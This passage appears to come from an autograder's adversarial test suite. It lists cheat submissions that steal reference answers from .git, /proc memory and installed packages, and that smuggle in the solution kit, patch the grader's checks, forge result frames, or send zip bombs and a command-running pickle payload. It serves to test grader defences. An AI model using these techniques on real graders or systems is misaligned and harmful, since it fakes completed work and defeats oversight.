    view, idx = memoryview(data), index.read_bytes()
    count = int.from_bytes(idx[8 + 255 * 4:8 + 256 * 4], "big")
    table = 8 + 256 * 4 + count * 24
    offsets = [int.from_bytes(idx[table + 4 * i:table + 4 * i + 4], "big") for i in range(count)]
    cache = {}

    def read(offset):
        if offset not in cache:
            byte = data[offset]
            kind, size, shift, pos = (byte >> 4) & 7, byte & 15, 4, offset + 1
            while byte & 0x80:
                byte = data[pos]
                size |= (byte & 0x7F) << shift
                shift += 7
                pos += 1
            base = None
            if kind == 6:
                byte = data[pos]
                pos += 1
                distance = byte & 0x7F
                while byte & 0x80:
                    byte = data[pos]
                    pos += 1
                    distance = ((distance + 1) << 7) | (byte & 0x7F)
                base = read(offset - distance)
            body = zlib.decompressobj().decompress(view[pos:pos + size + 4096 + size // 8])
            cache[offset] = (base[0], apply_delta(base[1], body)) if base else (kind, body)
        return cache[offset]

    for offset in offsets:
        if offset < 0x80000000:
            try:
                yield read(offset)
            except (zlib.error, IndexError, RecursionError):
                pass


stolen = []
for root in candidate_roots():
    git = root / ".git"
    if not git.is_dir():
        continue
    blobs = []
    for path in (git / "objects").glob("[0-9a-f][0-9a-f]/*"):
        header, _, body = zlib.decompress(path.read_bytes()).partition(b"\\0")
        blobs.append((3 if header.startswith(b"blob") else 0, body))
    for pack in (git / "objects" / "pack").glob("*.pack"):
        blobs += pack_objects(pack, pack.with_suffix(".idx"))
    stolen += [body for kind, body in blobs
               if kind == 3 and body.startswith(b"PK") and b"input.w_W_hx" in body]
''' + USE_STOLEN, "no .git inside the jail", **CLEAN)
# site-packages: an installed grader/references, or the checkout an editable install names
cheat("site_packages_grader", FILES, CANDIDATES + '''
import glob
import re

folders = {"/usr/lib/python3*/*-packages", "/usr/local/lib/python3*/*-packages",
           "/opt/*/lib/python3*/site-packages"}
folders |= {f"{root}/.venv/lib/python3*/site-packages" for root in candidate_roots()}
paths = []
for pattern in folders:
    for folder in glob.glob(pattern):
        paths += glob.glob(os.path.join(folder, "grader", "references", "q1_2.npz"))
        for finder in glob.glob(os.path.join(folder, "*editable*finder.py")):
            text = pathlib.Path(finder).read_text()
            paths += [os.path.join(value, "references", "q1_2.npz")
                      for value in re.findall(r"'(/[^']*grader)'", text)]
stolen = []
for path in paths:
    try:
        stolen.append(pathlib.Path(path).read_bytes())
    except OSError:
        pass
''' + USE_STOLEN, "an installed grader is hidden; the editable checkout is absent", **CLEAN)
# importlib.util.find_spec("grader"): where the grader package is installed
cheat("find_spec_grader", FILES, '''
import importlib.util
import pathlib
import site

spec = importlib.util.find_spec("grader")
folders = list(spec.submodule_search_locations or []) if spec else []
folders += [pathlib.Path(p) / "grader" for p in site.getsitepackages()]
stolen = []
for folder in folders:
    try:
        stolen.append((pathlib.Path(folder) / "references" / "q1_2.npz").read_bytes())
    except OSError:
        pass
''' + REPORT_STOLEN, "no grader package is importable in the jail, none in site-packages")
# every folder from / down (pruning /proc, /sys, /dev, /run) for any checkout's q1_2.npz
cheat("find_other_checkouts", FILES, '''
import os
import pathlib
import time

deadline, stolen, queue = time.monotonic() + 7, [], ["/"]
while queue and time.monotonic() < deadline:
    folder = queue.pop()
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    for name in names:
        path = os.path.join(folder, name)
        if path in ("/proc", "/sys", "/dev", "/run") or pathlib.Path(path).is_symlink():
            continue
        if name == "q1_2.npz" and folder.endswith("references"):
            try:
                stolen.append(pathlib.Path(path).read_bytes())
            except OSError:
                pass
        elif pathlib.Path(path).is_dir():
            queue.append(path)
''' + USE_STOLEN, "no checkout anywhere in the jail's file system", **CLEAN)
# numpy.fromfile: numpy's own reader
cheat("numpy_fromfile", FILES, CANDIDATES + '''
import numpy as np

stolen = []
for candidate in reference_candidates():
    try:
        stolen.append(np.fromfile(candidate, dtype=np.uint8).tobytes())
    except OSError:
        pass
''' + USE_STOLEN, "native or not, the file is not there", **CLEAN)
# keras.utils.get_file with a file:// origin: Keras reads the file for us
cheat("keras_get_file", FILES, CANDIDATES + '''
import keras

stolen = []
for index, candidate in enumerate(reference_candidates()):
    try:
        path = keras.utils.get_file(f"reference-{index}.npz", origin="file://" + candidate,
                                    cache_dir=os.getcwd())
        stolen.append(pathlib.Path(path).read_bytes())
    except Exception:
        pass
''' + USE_STOLEN, "a framework's downloader finds no file either", **CLEAN)
# fopen/fread from libc through ctypes
cheat("ctypes_fopen", FILES, CANDIDATES + '''
import ctypes

libc = ctypes.CDLL(None)
libc.fopen.restype = ctypes.c_void_p
libc.fopen.argtypes = [ctypes.c_char_p, ctypes.c_char_p]
libc.fread.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_void_p]
libc.fclose.argtypes = [ctypes.c_void_p]
stolen = []
for candidate in reference_candidates():
    handle = libc.fopen(candidate.encode(), b"rb")
    if handle:
        buffer = ctypes.create_string_buffer(1 << 22)
        size = libc.fread(buffer, 1, len(buffer), handle)
        libc.fclose(handle)
        stolen.append(buffer.raw[:size])
''' + REPORT_STOLEN, "fopen finds nothing")
# zipimport: an .npz is a zip, and zipimporter.get_data reads its members
cheat("zipimport_reference", FILES, CANDIDATES + '''
import io
import zipimport

import numpy as np

stolen = []
for candidate in reference_candidates():
    try:
        archive = zipimport.zipimporter(candidate)
    except (OSError, zipimport.ZipImportError):
        continue
    stolen.append({key: np.load(io.BytesIO(archive.get_data(key + ".npy")))
                   for key in ("expected.outputs", "expected.gradients", "input.x",
                               "input.readout")})
''' + REPORT_STOLEN, "zipimport has no archive to open")
# the memory of every ancestor (the grader): /proc/<pid>/mem scanned for a copy of q1_2.npz
cheat("proc_parent_mem", FILES, '''
import io
import pathlib
import re

import numpy as np
''' + PARENTS + '''
stolen = []
for pid in ancestors():
    try:
        maps = pathlib.Path(f"/proc/{pid}/maps").read_text().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    with mem:
        for line in maps:
            span, permissions = line.split()[:2]
            start, end = (int(value, 16) for value in span.split("-"))
            if not permissions.startswith("rw") or end - start > 512 << 20:
                continue
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            for match in re.finditer(rb"PK\\x03\\x04", chunk):
                window = chunk[match.start():match.start() + 65536]
                if b"expected.outputs.npy" in window and b"input.w_W_hx" in window:
                    try:
                        stolen.append(dict(np.load(io.BytesIO(window))))
                    except Exception:
                        pass
''' + USE_STOLEN, "the grader's memory is in another PID namespace", **CLEAN)
# /proc/*/fd: every descriptor of every process that points at an .npz
cheat("proc_fd_scan", FILES, '''
import os
import pathlib

stolen = []
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        descriptors = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in descriptors:
        link = pathlib.Path(f"/proc/{pid}/fd/{fd}")
        try:
            if ".npz" in str(link.readlink()):
                stolen.append(link.read_bytes())
        except OSError:
            pass
''' + USE_STOLEN, "no process in the jail holds the reference open", **CLEAN)
# a hard link, a symbolic link and shutil.copyfile into the scratch folder
cheat("link_reference", FILES, CANDIDATES + '''
import shutil

stolen = []
for index, candidate in enumerate(reference_candidates()):
    for label in ("hard", "soft", "copy"):
        target = pathlib.Path(f"{label}-{index}.npz")
        try:
            if label == "hard":
                target.hardlink_to(candidate)
            elif label == "soft":
                target.symlink_to(candidate)
            else:
                shutil.copyfile(candidate, target)
            stolen.append(target.read_bytes())
        except OSError:
            pass
''' + USE_STOLEN, "nothing to link to", **CLEAN)

# --- executing the kit's or the solution's source, and other ways to reuse a forbidden cell
KIT = "reusing the kit or the solution"
# the kit's recurrent.py, read and exec'd under another module name
cheat("exec_kit_source", KIT, '''
import inspect
import pathlib

import course_kit

source = (pathlib.Path(inspect.getfile(course_kit)).parent / "layers" / "recurrent.py").read_text()
namespace = {"__name__": "student_cells"}
exec(source, namespace)
VanillaRNNCell = namespace["VanillaRNNCell"]
''', "exec is a policy violation; the kit's source must not count")
# the solution notebook, found by walking up, its q1_2 cell exec'd
cheat("exec_solution_notebook", KIT, CANDIDATES + '''
import json

for root in candidate_roots():
    path = root / "solutions" / "02_vanilla_rnn.ipynb"
    if path.is_file():
        for cell in json.loads(path.read_text())["cells"]:
            source = "".join(cell["source"])
            if "graded: q1_2" in source:
                exec(source)
                break
        break
''', "exec is a policy violation, and solutions/ is not in the jail")
# runpy.run_path of the kit's module file
cheat("runpy_kit", KIT, '''
import inspect
import pathlib
import runpy

import course_kit

path = pathlib.Path(inspect.getfile(course_kit)).parent / "layers" / "recurrent.py"
VanillaRNNCell = runpy.run_path(str(path), run_name="student_cells")["VanillaRNNCell"]
''', "running the kit's file by path is reuse")
# py_compile writes the kit's bytecode to scratch; marshal loads it; FunctionType runs it
cheat("pyc_marshal_kit", KIT, '''
import inspect
import marshal
import pathlib
import py_compile
import types

import course_kit

source = pathlib.Path(inspect.getfile(course_kit)).parent / "layers" / "recurrent.py"
py_compile.compile(str(source), cfile="recurrent.pyc", doraise=True)
namespace = {"__name__": "student_cells"}
types.FunctionType(marshal.loads(pathlib.Path("recurrent.pyc").read_bytes()[16:]), namespace)()
VanillaRNNCell = namespace["VanillaRNNCell"]
''', "bytecode of the kit, run without exec, is still the kit")
# the kit's methods copied one by one onto a class of our own (no kit class in the MRO)
cheat("copy_kit_methods", KIT, '''
import course_kit.experiments.palindrome
import keras

kit_classes = type(course_kit.experiments.palindrome.make_cell("rnn", 1)).mro()[:2]


class VanillaRNNCell(keras.layers.Layer):
    num_states = 1

    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = self.state_size = units
        self.kernel_initializer = keras.initializers.get("glorot_uniform")
        self.recurrent_initializer = keras.initializers.get("glorot_uniform")
        self.bias_initializer = keras.initializers.get("zeros")


for klass in reversed(kit_classes):
    for name, value in vars(klass).items():
        if name.startswith("_") and not name.startswith("__") or name in ("build", "call"):
            setattr(VanillaRNNCell, name, value)
''', "the kit's functions on another class are the kit")
# the plain import
cheat("import_kit", KIT, "from course_kit.layers import VanillaRNNCell\n",
      "importing the kit's cell")
# importlib.import_module of a concatenated name, subclassed
cheat("subclass_kit_obfuscated", KIT, '''
import importlib
base = getattr(importlib.import_module('course_kit.' + 'lay' + 'ers'), 'Vanilla' + 'RNNCell')
class VanillaRNNCell(base):
    pass
''', "a subclass of the kit's cell, by a computed name")
# __import__ with a computed name
cheat("dunder_import", KIT, '''
VanillaRNNCell = __import__("course_kit.lay" + "ers", fromlist=["x"]).VanillaRNNCell
''', "__import__ is a policy violation")
# getattr on the package: the kit's lazy __getattr__ imports the module
cheat("getattr_package", KIT, '''
import course_kit

VanillaRNNCell = getattr(getattr(course_kit, "lay" + "ers"), "Vanilla" + "RNNCell")
''', "getattr on a module is a policy violation; the class is the kit's")
# sys.modules, once the check module has loaded the layers
cheat("sys_modules_lookup", KIT, '''
import sys

import course_kit.experiments.palindrome

course_kit.experiments.palindrome.make_cell("rnn", 1)
VanillaRNNCell = vars(sys.modules["course_kit." + "layers"])["Vanilla" + "RNNCell"]
''', "the kit's class, from sys.modules")
# keras.src's SimpleRNNCell, its weights aliased to the contract's names
cheat("keras_src_simplernn", KIT, '''
from keras.src.layers.rnn.simple_rnn import SimpleRNNCell


def make_engine(units):
    return SimpleRNNCell(units)
''' + hidden_engine(("kernel", "recurrent_kernel", "bias")).replace(
    "self.hidden = types.SimpleNamespace(engine=make_engine(units))",
    "self.engine = make_engine(units)").replace("self.hidden.engine", "self.engine"),
      "keras.src is a policy violation")
# Layer.__subclasses__() walked for SimpleRNNCell, held out of sight
cheat("layer_subclasses_walk", KIT, '''
import keras


def subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from subclasses(sub)


def make_engine(units):
    return next(c for c in subclasses(keras.layers.Layer) if c.__name__ == "SimpleRNNCell")(units)
''' + hidden_engine(("kernel", "recurrent_kernel", "bias")),
      "dunders are a policy violation; SimpleRNNCell is forbidden")
# keras.saving.get_registered_object for the kit's registered name
cheat("registered_object", KIT, '''
import course_kit.experiments.palindrome  # loads (and so registers) the kit's layers
import keras

VanillaRNNCell = keras.saving.get_registered_object("course_kit>Vanilla" + "RNNCell")
''', "the kit's class, from Keras' registry")
# keras.layers.deserialize of SimpleRNNCell by name, held in a SimpleNamespace
cheat("deserialize_hidden", KIT, '''
import keras


def make_engine(units):
    return keras.layers.deserialize({"module": "keras.layers", "class_name": "Simple" + "RNNCell",
                                     "config": {"units": units}, "registered_name": None})
''' + hidden_engine(("kernel", "recurrent_kernel", "bias")),
      "a SimpleRNNCell made from a config, out of the tracker's sight")
# the check module's own reference cell, as the class
cheat("experiments_kit_cell", KIT, KIT_CELL_FROM_EXPERIMENTS,
      "the experiments module hands out the kit's cell")
# the kit cell in a dict of lists on the layer: Keras tracks it, so the probe sees it
cheat("engine_in_dict_attribute", KIT, KIT_ENGINE + '''
import keras


class VanillaRNNCell(keras.layers.Layer):
    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = self.state_size = units
        self.parts = {"engines": [make_engine(units)]}

    def build(self, input_shape):
        engine = self.parts["engines"][0]
        engine.build(input_shape)
        self.W_hx, self.W_hh, self.b_h = engine.W_hx, engine.W_hh, engine.b_h

    def call(self, x, states):
        h = self.parts["engines"][0](x, states)[0]
        return h, [h]
''', "the kit's cell inside a dict attribute")
# the same kit cell, held in a SimpleNamespace
cheat("hidden_engine_namespace", KIT, KIT_ENGINE + hidden_engine(),
      "the kit's cell out of the tracker's sight")
# the kit cell in a module-level dict keyed by id(self): no attribute at all
cheat("hidden_engine_closure", KIT, KIT_ENGINE + '''
import keras

ENGINES = {}


class VanillaRNNCell(keras.layers.Layer):
    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = self.state_size = units

    def build(self, input_shape):
        engine = ENGINES[id(self)] = make_engine(self.units)
        engine.build(input_shape)
        self.W_hx, self.W_hh, self.b_h = engine.W_hx, engine.W_hh, engine.b_h

    def call(self, x, states):
        h = ENGINES[id(self)](x, states)[0]
        return h, [h]
''', "the kit's cell in a global")
# a subclass of the kit's cell lying about its module, name and __class__
cheat("fake_dunder_class", KIT, '''
import course_kit.experiments.palindrome
import keras

Kit = type(course_kit.experiments.palindrome.make_cell("rnn", 1))


class VanillaRNNCell(Kit):
    __module__ = "__main__"
    __qualname__ = "VanillaRNNCell"

    @property
    def __class__(self):
        return keras.layers.Layer
''', "a faked __class__ / __module__ does not hide the kit")
# a pickle payload (base64) that names the kit's class
PICKLED_KIT_CLASS = base64.b64encode(b"ccourse_kit.layers.recurrent\nVanillaRNNCell\n.").decode()
cheat("pickle_payload", KIT, f'''
import base64
import pickle

Base = pickle.loads(base64.b64decode("{PICKLED_KIT_CLASS}"))


class VanillaRNNCell(Base):
    pass
''', "a class unpickled by name is the kit's class")
# full-width letters: NFKC makes them the kit's names at parse time
cheat("unicode_fullwidth_import", KIT,
      "from " + "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in "course_kit.layers")
      + " import " + "".join(chr(ord(c) + 0xFEE0) for c in "VanillaRNNCell") + "\n",
      "identifiers are NFKC-normalised: this is the plain import")
# a .py file handed in beside the notebook re-exports the kit's cell
cheat("helper_module_reexport", KIT, '''
from rnn_helpers import VanillaRNNCell
''', "code handed in beside the notebook is part of the answer",
      extra={"rnn_helpers.py": "from course_kit.layers import VanillaRNNCell  # noqa: F401\n"},
      **CLEAN)
# the helper module hides the kit's cell in a SimpleNamespace: the cell itself looks clean
cheat("helper_module_hidden_engine", KIT, '''
from rnn_helpers import VanillaRNNCell
''', "a helper file with a hidden kit cell",
      extra={"rnn_helpers.py": "from course_kit.layers import VanillaRNNCell as make_engine\n"
             + hidden_engine()}, **CLEAN)

# a SimpleRNNCell from a configuration with computed keys, through keras.layers.Activation
# (which deserialises its argument): the gap the policy leaves to the probe's inspection
cheat("activation_config_smuggle", KIT, '''
import keras


def make_engine(units):
    config = {"module": "keras." + "layers", "class" + "_name": "Simple" + "RN" + "NCell",
              "config": {"units": units}, "registered" + "_name": None}
    return keras.layers.Activation(config).activation
''' + hidden_engine(("kernel", "recurrent_kernel", "bias")),
      "a forbidden cell smuggled through a configuration: refused by the policy, and the "
      "child refuses to build it")

# --- switching off the reuse check inside the student process, then reusing the kit's cell
TAMPER = "tampering with the checks inside the student process"
# every module with a Context class (the probes'): Context.inspect becomes a no-op
cheat("monkeypatch_probe_module", TAMPER, '''
import sys

for module in list(sys.modules.values()):
    try:
        context = vars(module).get("Context")
    except TypeError:
        continue
    if isinstance(context, type) and hasattr(context, "inspect"):
        context.inspect = lambda self, obj: None
''' + KIT_CELL_FROM_EXPERIMENTS, "patching the checker in the child must not hide the kit")
# walk the call stack to the probe's context object and blind that instance
cheat("frame_walk_context", TAMPER, '''
import sys

frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        if hasattr(value, "kit_classes") and hasattr(value, "inspect"):
            value.inspect = lambda obj: None
    frame = frame.f_back
''' + KIT_CELL_FROM_EXPERIMENTS, "stack frames of the grader's code are off limits")
# put the real __import__ back so the grader's import recorder sees nothing
cheat("restore_builtins_import", TAMPER, '''
import builtins

__builtins__["__import__"] = builtins.__import__
from course_kit.layers import VanillaRNNCell
''', "the import is visible in the source")
# an audit hook that clears the probe's record of forbidden classes on every event
cheat("audit_hook_tricks", TAMPER, '''
import sys

busy = []


def blind(event, args):
    if busy:
        return
    busy.append(event)
    try:
        frame = sys._getframe(1)
        while frame is not None:
            context = frame.f_locals.get("context")
            if hasattr(context, "kit_classes"):
                context.kit_classes.clear()
            frame = frame.f_back
    finally:
        busy.clear()


sys.addaudithook(blind)
''' + KIT_CELL_FROM_EXPERIMENTS, "an audit hook of the student's must not edit the grader's record")
# a profile function rewrites the probe's result dict with the kit cell's arrays on return
cheat("setprofile_patch_results", TAMPER, '''
import sys

import course_kit.experiments.palindrome


def forge(frame, event, result):
    if event == "return" and frame.f_code.co_name == "probe_cell" and isinstance(result, dict):
        sys.setprofile(None)
        context = frame.f_locals["context"]
        fresh = type(context)(context.inputs, ())
        kit = type(course_kit.experiments.palindrome.make_cell("rnn", 1))
        result.update(frame.f_globals["probe_cell"]({"VanillaRNNCell": kit}, fresh,
                                                     "VanillaRNNCell"))


sys.setprofile(forge)
''' + STUB, "results computed in the child can be rewritten there: the grader must not trust them")
# os.write replaced: result frames leave with kit_classes, imports and notes emptied
cheat("patch_os_write_frames", TAMPER, '''
import json
import os
import struct

real_write = os.write


def scrub(fd, data):
    data = bytes(data)
    if data[:4] == b"CKG1":
        _, size, _ = struct.unpack(">4sIQ", data[:16])
        header = json.loads(data[16:16 + size])
        if header.get("kind") == "result":
            header.update(kit_classes=[], imports=[], notes=[])
            encoded = json.dumps(header).encode()
            payload = data[16 + size:]
            forged = struct.pack(">4sIQ", b"CKG1", len(encoded), len(payload)) + encoded + payload
            while forged:
                forged = forged[real_write(fd, forged):]
            return len(data)
    return real_write(fd, data)


os.write = scrub
''' + KIT_CELL_FROM_EXPERIMENTS, "frames edited on their way out: reuse must be decided in the grader")
# the probe table itself: q1_2's probe replaced by one that returns the right weight shapes
cheat("patch_probe_results", TAMPER, '''
import gc

import numpy as np


def forged(namespace, context):
    return {"weight_shapes": np.array([[3, 4], [4, 4], [4, 0]])}


for table in gc.get_objects():
    if isinstance(table, dict) and callable(table.get("vanilla_rnn_cell")):
        table["vanilla_rnn_cell"] = forged
''' + STUB, "a forged weight table from a patched probe: no weights exist, no point")
# the same with exotic dtypes: complex weight shapes (imaginary part 0), float16, a structure
cheat("patched_probe_exotic_dtypes", TAMPER, '''
import gc

import numpy as np


def forged(namespace, context):
    return {"weight_shapes": np.array([[3, 4], [4, 4], [4, 0]], dtype=np.complex128),
            "outputs": np.zeros((2, 5, 4), dtype=np.float16),
            "gradients": np.zeros(32, dtype=[("value", "<f8")])}


for table in gc.get_objects():
    if isinstance(table, dict) and callable(table.get("vanilla_rnn_cell")):
        table["vanilla_rnn_cell"] = forged
''' + STUB, "complex, float16 and structured arrays must fail, not be cast into credit")
# numpy.allclose and friends patched in the child (the comparison happens in the grader)
cheat("monkeypatch_numpy", TAMPER, '''
import numpy, numpy.testing
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.array_equal = lambda *a, **k: True
''' + STUB, "numpy in the child compares nothing (and graded cells may not change modules)")


# The static policy is the defence against reuse and tampering: these cells must be refused by
# it (they run in the jail all the same); those that run to the end show it in their status.
for name in ("exec_kit_source", "exec_solution_notebook", "runpy_kit", "pyc_marshal_kit",
             "copy_kit_methods", "import_kit", "subclass_kit_obfuscated", "dunder_import",
             "getattr_package", "sys_modules_lookup", "keras_src_simplernn",
             "layer_subclasses_walk", "registered_object", "deserialize_hidden",
             "experiments_kit_cell", "engine_in_dict_attribute", "hidden_engine_namespace",
             "hidden_engine_closure",
             "fake_dunder_class", "pickle_payload", "unicode_fullwidth_import",
             "monkeypatch_probe_module", "frame_walk_context", "restore_builtins_import",
             "audit_hook_tricks", "setprofile_patch_results", "patch_os_write_frames",
             "patch_probe_results", "patched_probe_exotic_dtypes"):
    CASES[name].policy = "flagged"
CASES["keras_src_simplernn"].status = "forbidden"
# The kit in the jail is the student edition: the kit's cell these cells reach is its stub,
# which raises as soon as it is built.
for name in ("exec_kit_source", "import_kit", "subclass_kit_obfuscated", "dunder_import",
             "unicode_fullwidth_import"):
    CASES[name].status = "error"

# --- forged frames on the result pipe (a thread keeps writing after the real result)
FORGED = "forged frames"
# a forged result frame (right weight shapes) on every descriptor, and a JSON line on stdout
cheat("fake_result", FORGED, FRAMES + '''
print(json.dumps({"student": "me", "score": 100, "q1_2": {"score": 7, "status": "passed"}}))
spray(frame({"kind": "result", "qid": "q1_2", "status": "ok"},
            arrays(weight_shapes=SHAPES, outputs=np.zeros((2, 5, 4)), gradients=np.zeros(32))))
''' + STUB, "a forged frame voids the question")
# a second result for q1_2 and a done frame, right behind the real result (os.write wrapped)
cheat("forged_second_result", FORGED, FRAMES + '''
real_write = os.write


def write_and_follow(fd, data):
    written = real_write(fd, data)
    if bytes(data[:4]) == b"CKG1" and b'"result"' in bytes(data[:4096]):
        os.write = real_write
        real_write(fd, frame({"kind": "result", "qid": "q1_2", "status": "ok"},
                             arrays(weight_shapes=SHAPES)) + frame({"kind": "done"}))
    return written


os.write = write_and_follow
''' + STUB, "a second result voids q1_2 and leaves q1_5 to an honest run")
# a thread floods forged results for q1_2 and q1_5 (wrong counts) for twenty seconds
cheat("forged_frame_flood", FORGED, FRAMES + '''
def flood():
    forged = (frame({"kind": "result", "qid": "q1_2", "status": "ok"}, arrays(weight_shapes=SHAPES))
              + frame({"kind": "result", "qid": "q1_5", "status": "ok"},
                      arrays(counts=np.zeros(4, dtype=np.int64))))
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        spray(forged)
        time.sleep(0.005)


threading.Thread(target=flood, daemon=True).start()
''' + STUB, "q1_5 keeps its 3 points from its honest run, not the forged zeros")
# frames for another question: q1_5 starts and finishes (wrong counts) during q1_2
cheat("forged_other_question", FORGED, FRAMES + '''
spray(frame({"kind": "start", "qid": "q1_5"}))
spray(frame({"kind": "result", "qid": "q1_5", "status": "ok"},
            arrays(counts=np.zeros(4, dtype=np.int64))))
spray(frame({"kind": "result", "qid": "q1_9", "status": "ok"}, arrays(weight_shapes=SHAPES)))
''' + STUB, "a frame for another question voids q1_2; q1_5 is graded on its own run")
# a prefix announcing a 4 GB header and an 8 EB payload
cheat("forged_giant_header", FORGED, FRAMES + '''
spray(struct.pack(">4sIQ", b"CKG1", 0xFFFFFFFF, 1 << 63) + b"{")
''' + STUB, "a giant announced length is refused without allocating")
# a header of 600 kB that is JSON nested 300,000 deep (RecursionError in json.loads)
cheat("forged_deep_json_header", FORGED, FRAMES + '''
spray(frame(b"[" * 300_000 + b"]" * 300_000))
''' + STUB, "a deeply nested header is malformed data, not a grader crash")
# an npz payload of 2 MB whose outputs.npy inflates to 2 GB
cheat("forged_npz_inflate", FORGED, FRAMES + BOMB + '''
count = 1 << 28
prefix = npy_header("<f8", (count,))
spray(frame({"kind": "result", "qid": "q1_2", "status": "ok"},
            deflate_bomb("outputs.npy", prefix, len(prefix) + 8 * count)))
''' + STUB, "a payload that inflates to GBs is refused (the grader stays under 600 MB)")
# an npz whose .npy header claims 10**12 float64 numbers over 64 bytes of data
cheat("forged_npy_huge_shape", FORGED, FRAMES + BOMB + '''
import zipfile

buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as archive:
    archive.writestr("outputs.npy", npy_header("<f8", (10**12,)) + bytes(64))
    shapes = npy_header("<i8", (3, 2)) + SHAPES.astype("<i8").tobytes()
    archive.writestr("weight_shapes.npy", shapes)
spray(frame({"kind": "result", "qid": "q1_2", "status": "ok"}, buffer.getvalue()))
''' + STUB, "a huge claimed shape is refused")
# complex outputs and complex weight shapes (imaginary part 0) in a forged result
cheat("forged_complex", FORGED, FRAMES + '''
spray(frame({"kind": "result", "qid": "q1_2", "status": "ok"},
            arrays(weight_shapes=SHAPES.astype(complex), outputs=np.zeros((2, 5, 4)) + 1j,
                   gradients=np.zeros(32, dtype=complex))))
''' + STUB, "complex arrays are refused, never cast")
# an object array whose pickle runs a shell command if the grader ever unpickles it
cheat("forged_pickle_payload", FORGED, FRAMES + BOMB + f'''
import zipfile

payload = b"cos\\nsystem\\n(S'touch /tmp/{MARK}-pickle'\\ntR."
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as archive:
    archive.writestr("outputs.npy", npy_header("|O", (1,)) + payload)
spray(frame({{"kind": "result", "qid": "q1_2", "status": "ok"}}, buffer.getvalue()))
''' + STUB, "object arrays are refused; their pickle never runs")
# NaN outputs, float16 gradients and structured weight shapes in a forged result
cheat("forged_nan_float16_structured", FORGED, FRAMES + '''
spray(frame({"kind": "result", "qid": "q1_2", "status": "ok"},
            arrays(weight_shapes=np.zeros(3, dtype=[("rows", "<i8"), ("cols", "<i8")]),
                   outputs=np.full((2, 5, 4), np.nan), gradients=np.zeros(32, np.float16))))
''' + STUB, "NaN, float16 and structured arrays score nothing")
# header fields of the wrong type: notes a number, kit_classes a dict, imports a string
cheat("forged_wrong_types_header", FORGED, FRAMES + '''
spray(frame({"kind": "result", "qid": "q1_2", "status": "ok", "notes": 12345,
             "kit_classes": {"a": 1}, "imports": "numpy", "seconds": "fast",
             "error_type": ["x"], "where": {"line": 1}}, arrays(weight_shapes=SHAPES)))
''' + STUB, "a header with wrong types is malformed data, not a grader crash")
# random bytes on every descriptor
cheat("forged_garbage_bytes", FORGED, FRAMES + '''
spray(np.random.default_rng().bytes(4096))
''' + STUB, "garbage on the pipe voids the question")
# a start frame for q1_2 every half second while the cell sleeps: the deadline must hold
cheat("forged_start_keepalive", FORGED, FRAMES + '''
def keep_alive():
    while True:
        spray(frame({"kind": "start", "qid": "q1_2"}))
        time.sleep(0.5)


threading.Thread(target=keep_alive, daemon=True).start()
time.sleep(120)
''' + STUB, "repeated start frames neither pass nor extend the wall-clock limit")

for case in CASES.values():
    if case.category == FORGED and case.name != "forged_start_keepalive":
        case.note = ["malformed", "forged", "extra", "unexpected", "out of turn"]
CASES["forged_start_keepalive"].note = ["timed out", "malformed", "forged", "unexpected"]

# --- outputs of the wrong kind
OUTPUTS = "outputs of the wrong kind"
# the answer times (1+0j): the imaginary part must not be dropped into credit
cheat("complex_output", OUTPUTS, mutate(RNN_CELL, "return h_t, [h_t]",
                                        "h_t = h_t * (1 + 0j)\n        return h_t, [h_t]"),
      "complex outputs fail (on jax the gradient of a complex sum raises: nothing is scored)",
      **CLEAN)
# right weights, strings for outputs
cheat("wrong_type_outputs", OUTPUTS, '''
import keras


class VanillaRNNCell(keras.layers.Layer):
    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = self.state_size = units

    def build(self, input_shape):
        self.W_hx = self.add_weight(shape=(input_shape[-1], self.units), name="W_hx")
        self.W_hh = self.add_weight(shape=(self.units, self.units), name="W_hh")
        self.b_h = self.add_weight(shape=(self.units,), name="b_h")

    def call(self, x, states):
        return "h_t", ["h_t"]
''', "strings for outputs: the probe fails, nothing is scored", **CLEAN)

# --- grader crashes: archives and notebooks the intake must survive, children that die oddly
CRASHES = "grader crashes"


def _zip(entries, symlinks=()):
    """A stored (uncompressed, so byte-identical everywhere) zip of ``(name, data)``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.create_system = 3
            info.external_attr = ((0o120777 if name in symlinks else 0o100644) << 16)
            archive.writestr(info, data)
    return buffer.getvalue()


def _honest_notebook(q1_2=STUB):
    return notebook_text(notebook({"q1_2": q1_2, "q1_5": COUNT})).encode()


def _encrypted(data):
    """Set the 'encrypted' flag on every entry (as `zip -e` does; the data stays plain)."""
    data = bytearray(data)
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start >= 0:
            data[start + flag_at] |= 1
            start = data.find(signature, start + 4)
    return bytes(data)


def _crc_damaged(data):
    marker = b"Submission built by"
    at = data.find(marker)
    return data[:at] + b"s" + data[at + 1:]


def _raw_notebook(change):
    """The notebook text of an honest submission, as a dict that ``change`` edits."""
    content = json.loads(notebook_text(notebook({"q1_2": STUB, "q1_5": COUNT})))
    change(content)
    return json.dumps(content, indent=1, sort_keys=True) + "\n"


def archive(name, data, reason, **expected):
    add(name, CRASHES, reason, files={f"{name}.zip": data}, **expected)


# a zip cut in half: no central directory
archive("corrupt_zip", _zip([("submission.ipynb", _honest_notebook())])[:700],
        "an unreadable zip is a problem of that student only", q1_5=0)
